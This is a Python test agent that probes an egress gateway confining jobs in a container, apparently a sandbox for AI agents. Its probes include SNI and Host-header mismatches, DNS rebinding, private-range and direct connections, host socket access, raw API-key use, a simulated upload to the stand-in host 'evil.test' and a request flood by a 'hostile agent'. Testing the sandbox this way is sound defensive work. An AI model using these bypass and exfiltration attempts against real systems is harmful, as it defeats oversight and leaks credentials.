# The agent of egress_container_test: runs inside an assessq job container
# (image assessq-net-test:1, network "gateway": no interface but lo, the
# job's gateway at HTTP_PROXY=http://127.0.0.1:3128) as
#   python3 -c "$(cat egress_probes.py)" /input/metadata.json
# It runs the probe named by the metadata's "X-Probe" with "X-Params" and
# prints one line "PROBE-RESULT {json}" of raw observations (HTTP codes,
# errno names, file listings); the test on the host decides what they mean.
# It sends nothing anywhere but through the gateway and to addresses the
# test gave it (all on this machine or in the test's network namespace).
import errno
import json
import os
import select
import socket
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request

PROXY = ("127.0.0.1", 3128)
md = json.load(open(sys.argv[1]))
probe = md.get("X-Probe", "")
params = md.get("X-Params", {})
obs = {}


def post_direct(url, headers):
    """POSTs a stub Messages request straight to `url` (origin form, no
    proxy: as a client that does not apply HTTP_PROXY to the base URL)."""
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with direct.open(urllib.request.Request(url, data=b'{"model":"stub"}', headers=headers),
                         timeout=10) as r:
            return {"code": r.status, "body": r.read(300).decode("latin-1")}
    except urllib.error.HTTPError as e:
        return {"code": e.code, "body": e.read(300).decode("latin-1")}
    except Exception as e:
        return {"code": 0, "error": repr(e)[:300]}


def err_name(e):
    n = getattr(e, "errno", None)
    return errno.errorcode.get(n, str(n)) if n else type(e).__name__


def curl(url, *extra):
    """curl through the environment's proxy: exit code, HTTP code, CONNECT code, body."""
    cmd = ["/usr/bin/curl", "-sS", "--max-time", "10", "-w", "\n@@%{http_code} %{http_connect}"]
    cmd += list(extra) + [url]
    p = subprocess.run(cmd, capture_output=True, text=True, errors="replace")
    body, _, codes = p.stdout.rpartition("\n@@")
    code, _, connect = codes.partition(" ")
    return {"rc": p.returncode, "code": int(code or 0), "connect": int(connect or 0),
            "body": body[:300], "err": p.stderr.strip()[:300]}


def urllib_get(url, data=None, headers=None):
    try:
        req = urllib.request.Request(url, data=data, headers=headers or {})
        with urllib.request.urlopen(req, timeout=10) as r:
            return {"code": r.status, "body": r.read(300).decode("latin-1")}
    except urllib.error.HTTPError as e:
        return {"code": e.code, "body": e.read(300).decode("latin-1")}
    except Exception as e:
        return {"code": 0, "error": repr(e)[:300]}


def raw(data, read_timeout=5.0):
    """Sends bytes to the proxy port, returns what comes back until EOF."""
    s = socket.create_connection(PROXY, timeout=5)
    s.settimeout(read_timeout)
    out = b""
    try:
        s.sendall(data)
        while True:
            c = s.recv(65536)
            if not c:
                break
            out += c
    except Exception as e:
        return {"response": out.decode("latin-1")[:300], "error": err_name(e)}
    finally:
        s.close()
    return {"response": out.decode("latin-1")[:300], "eof": True}


def direct_tcp(host, port):
    """A TCP connection that does not use the proxy."""
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.close()
        return "CONNECTED"
    except Exception as e:
        return err_name(e)


def status_of(resp):
    line = resp.split("\r\n", 1)[0]
    parts = line.split(" ")
    return int(parts[1]) if len(parts) > 1 and parts[0].startswith("HTTP/") and parts[1].isdigit() else 0


def tls_via_connect(connect_host, server_hostname):
    """CONNECT connect_host:443, then TLS with this SNI; the HTTP status or the error."""
    s = socket.create_connection(PROXY, timeout=5)
    s.settimeout(5)
    try:
        s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (connect_host, connect_host)).encode())
        head = b""
        while b"\r\n\r\n" not in head:
            c = s.recv(1)
            if not c:
                return {"connect": 0, "error": "closed before the CONNECT answer"}
            head += c
        code = status_of(head.decode("latin-1"))
        if code != 200:
            return {"connect": code}
        ctx = ssl.create_default_context()
        ctx.check_hostname = False  # the name check is the gateway's here
        t = ctx.wrap_socket(s, server_hostname=server_hostname)
        t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % server_hostname).encode())
        resp = b""
        while True:
            c = t.recv(65536)
            if not c:
                break
            resp += c
        return {"connect": 200, "tls": "ok", "status": status_of(resp.decode("latin-1"))}
    except Exception as e:
        return {"connect": 200, "tls": "failed", "error": repr(e)[:200]}
    finally:
        s.close()


if probe == "allowed":
    obs["curl_http"] = curl("http://allowed.test/")
    obs["curl_https"] = curl("https://allowed.test/")
    obs["urllib_http"] = urllib_get("http://allowed.test/")
    obs["urllib_https"] = urllib_get("https://allowed.test/")

elif probe == "no_rule":
    obs["curl_http"] = curl("http://evil.test/")
    obs["curl_https"] = curl("https://evil.test/")
    obs["urllib_http"] = urllib_get("http://evil.test/")
    obs["urllib_https"] = urllib_get("https://evil.test/")

elif probe == "ip_literals":
    for h in params["hosts"]:
        obs["http " + h] = curl("http://%s/" % h)
        obs["https " + h] = curl("https://%s/" % h)
        obs["raw " + h] = status_of(raw(("GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (h, h)).encode())["response"])

elif probe == "private_ranges":
    for t in params["targets"]:
        obs["proxy " + t] = curl("http://%s/" % t)
        obs["connect " + t] = curl("https://%s/" % t)
    for h in params["direct"]:
        obs["direct " + h] = direct_tcp(h, 80)

elif probe == "rebind":
    obs["http"] = curl("http://rebind.test/")
    obs["https"] = curl("https://rebind.test/")
    obs["control"] = curl("http://public.test/")

elif probe == "sni_mismatch":
    obs["curl_connect_to"] = curl("https://evil.test/", "--connect-to", "evil.test:443:allowed.test:443")
    obs["python_evil"] = tls_via_connect("allowed.test", "evil.test")
    obs["python_other_allowed"] = tls_via_connect("allowed.test", "public.test")
    obs["python_control"] = tls_via_connect("allowed.test", "allowed.test")

elif probe == "host_mismatch":
    obs["raw"] = status_of(raw(b"GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")["response"])
    obs["raw_port"] = status_of(raw(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n")["response"])
    obs["curl"] = curl("http://allowed.test/", "-H", "Host: evil.test")
    obs["control"] = status_of(raw(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")["response"])

elif probe == "non_http":
    obs["junk"] = raw(b"\x00\x01\x02 SSH-2.0-OpenSSH_9.2\r\n\r\n")
    ctx = ssl.create_default_context()
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(i, o, server_hostname="allowed.test")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    obs["bare_client_hello"] = raw(o.read() + b"\r\n\r\n")
    obs["plaintext_in_tunnel"] = raw(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    obs["smtp_like"] = raw(b"EHLO evil.test\r\n\r\n")

elif probe == "no_network":
    with open("/proc/net/dev") as f:
        obs["interfaces"] = sorted(l.split(":")[0].strip() for l in f.readlines()[2:])
    for h in params["udp"]:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"probe", (h, 5353))
            obs["udp " + h] = "SENT"
        except Exception as e:
            obs["udp " + h] = err_name(e)
        finally:
            s.close()
    for h in params["tcp"]:
        obs["tcp " + h] = direct_tcp(h, 80)

elif probe == "host_service":
    port = params["port"]
    for h in params["addrs"]:
        obs["direct " + h] = direct_tcp(h, port)
        obs["proxy " + h] = curl("http://%s:%d/" % (h, port))
        obs["connect " + h] = curl("https://%s:%d/" % (h, port))

elif probe == "host_paths":
    for p in params["paths"]:
        r = {"exists": os.path.exists(p)}
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(p)
            r["connect"] = "CONNECTED"
        except Exception as e:
            r["connect"] = err_name(e)
        finally:
            s.close()
        obs[p] = r
    obs["run_assessq"] = sorted(os.listdir("/run/assessq"))
    # The job's own net dir: its socket is there; nothing can be listed or made.
    obs["own_socket"] = os.path.exists("/run/assessq/net/proxy.sock")
    try:
        obs["list_net_dir"] = sorted(os.listdir("/run/assessq/net"))
    except Exception as e:
        obs["list_net_dir"] = err_name(e)
    try:
        open("/run/assessq/net/other.sock", "w").close()
        obs["create_in_net_dir"] = "CREATED"
    except Exception as e:
        obs["create_in_net_dir"] = err_name(e)

elif probe == "sleeper":
    # Holds its gateway socket (the gateway listens for the job's whole
    # life) while another job looks for it; cancelled by the test.
    print("own socket: %s" % os.path.exists("/run/assessq/net/proxy.sock"), flush=True)
    time.sleep(params.get("seconds", 6))

elif probe == "model":
    base = os.environ.get("ANTHROPIC_BASE_URL", "")
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    obs["base_url"] = base
    obs["env_key"] = key
    headers = {"x-api-key": key, "content-type": "application/json",
               "anthropic-version": "2023-06-01"}
    # Straight to the base URL (origin form), as a client that does not apply
    # HTTP_PROXY to it would send it.
    obs["post"] = post_direct(base + "/v1/messages", headers)
    obs["secrets_dir"] = os.path.exists("/run/secrets")
    obs["environ"] = sorted(k for k in os.environ)

elif probe == "model_env":
    # With the job's environment as given (HTTP_PROXY set, NO_PROXY empty), as
    # urllib, requests, httpx and curl do by default.
    base = os.environ.get("ANTHROPIC_BASE_URL", "")
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    obs["curl_env_proxy"] = curl(base + "/v1/models", "-H", "x-api-key: " + key)
    obs["urllib_env_proxy"] = urllib_get(base + "/v1/models", headers={"x-api-key": key})

elif probe == "denied_upload":
    # An upload whose head the gateway denies while the body is still coming
    # (a slow client, or one that does not wait for an early answer), then an
    # ordinary allowed request.
    s = socket.create_connection(PROXY, timeout=5)
    s.sendall(b"POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\n"
              b"Content-Length: 4000000\r\n\r\n")
    select.select([s], [], [], 5)  # until the denial has come (read below)
    sent = 0
    try:
        for _ in range(250):
            s.sendall(b"x" * 16000)
            sent += 16000
            time.sleep(0.002)
    except Exception as e:
        obs["upload_error"] = err_name(e)
    obs["upload_sent"] = sent
    try:
        obs["upload"] = status_of(s.recv(4096).decode("latin-1"))
    except Exception as e:
        obs["upload"] = err_name(e)
    s.close()
    obs["after"] = curl("http://allowed.test/")

elif probe == "model_api_only":
    # Methods and paths that are not the Messages API, with the key the
    # gateway would add: refused with the reason, never forwarded.
    base = os.environ.get("ANTHROPIC_BASE_URL", "")
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    for name, method, path in [("trace", "TRACE", "/v1/messages"), ("files", "POST", "/v1/files"),
                               ("batches", "POST", "/v1/messages/batches")]:
        r = raw(("%s %s HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nx-api-key: %s\r\nContent-Length: 0\r\n\r\n"
                 % (method, path, key)).encode())
        resp = r.get("response", "")
        reason = [l.split(":", 1)[1].strip() for l in resp.split("\r\n") if l.lower().startswith("x-deny-reason:")]
        obs[name] = {"code": status_of(resp), "deny_reason": reason[0] if reason else ""}

elif probe == "model_bearer":
    # A subscription login: the container holds a placeholder in
    # CLAUDE_CODE_OAUTH_TOKEN and sends it as a bearer, as Claude Code does.
    base = os.environ.get("ANTHROPIC_BASE_URL", "")
    token = os.environ.get("CLAUDE_CODE_OAUTH_TOKEN", "")
    obs["env_token"] = token
    obs["environ"] = sorted(k for k in os.environ)
    headers = {"authorization": "Bearer " + token, "anthropic-beta": "oauth-2025-04-20",
               "content-type": "application/json", "anthropic-version": "2023-06-01"}
    obs["post"] = post_direct(base + "/v1/messages?beta=true", headers)

elif probe == "netlog_flood":
    # A hostile agent's flood of refused requests with 8 KB targets and 20 KB
    # Host headers, then a valid assessment: the report must still arrive.
    n = params.get("requests", 2000)
    target = "http://evil.test/" + "t" * (8000 - len("http://evil.test/"))
    host = "h" * (20 * 1024)
    codes = {}
    for i in range(n):
        s = socket.create_connection(PROXY, timeout=5)
        s.settimeout(5)
        try:
            s.sendall(("GET %s HTTP/1.1\r\nHost: %s%d\r\n\r\n" % (target, host, i)).encode())
            out = b""
            while b"\r\n\r\n" not in out:
                c = s.recv(4096)
                if not c:
                    break
                out += c
            code = status_of(out.decode("latin-1"))
        except Exception as e:
            code = err_name(e)
        finally:
            s.close()
        codes[str(code)] = codes.get(str(code), 0) + 1
    obs["codes"] = codes
    name = md.get("Name", "x")
    assessment = {
        "الاسم": name, "الاسم_الأصلي": name, "درجة_الجودة": 65, "تقدير_الجودة": "جيد",
        "الملخص": "تقييم تجريبي لمجموعة البيانات أعده وكيل الاختبار اعتمادا على البيانات الوصفية وحدها.",
        "فحص_البيانات": {"الطريقة_المستخدمة": "metadata_only", "عدد_العينات_المفحوصة": 0,
                          "معاينة_العينات": [], "مشاكل_مكتشفة": [], "البيانات_تطابق_الوصف": True},
        "نقاط_القوة": ["وصف واضح للبيانات ومصدرها"], "نقاط_الضعف": ["لم تحمل عينات فعلية في هذا الاختبار"],
        "الاستخدامات_الموصى_بها": ["اختبار خط المعالجة"],
        "تفصيل_الجودة": {"سهولة_الوصول": 70, "التوثيق": 60, "السلامة_الأخلاقية": 70, "الترخيص": 60,
                          "قابلية_إعادة_الإنتاج": 60, "المراجعة_العلمية": 60, "جودة_البيانات": 65},
        "المصادر_المفتوحة": [], "تم_تحميل_البيانات": False,
    }
    with open("/output/assessment.json", "w", encoding="utf-8") as f:
        json.dump(assessment, f, ensure_ascii=False)

else:
    obs["error"] = "unknown probe %r" % probe

print("PROBE-RESULT " + json.dumps({"probe": probe, "obs": obs}), flush=True)
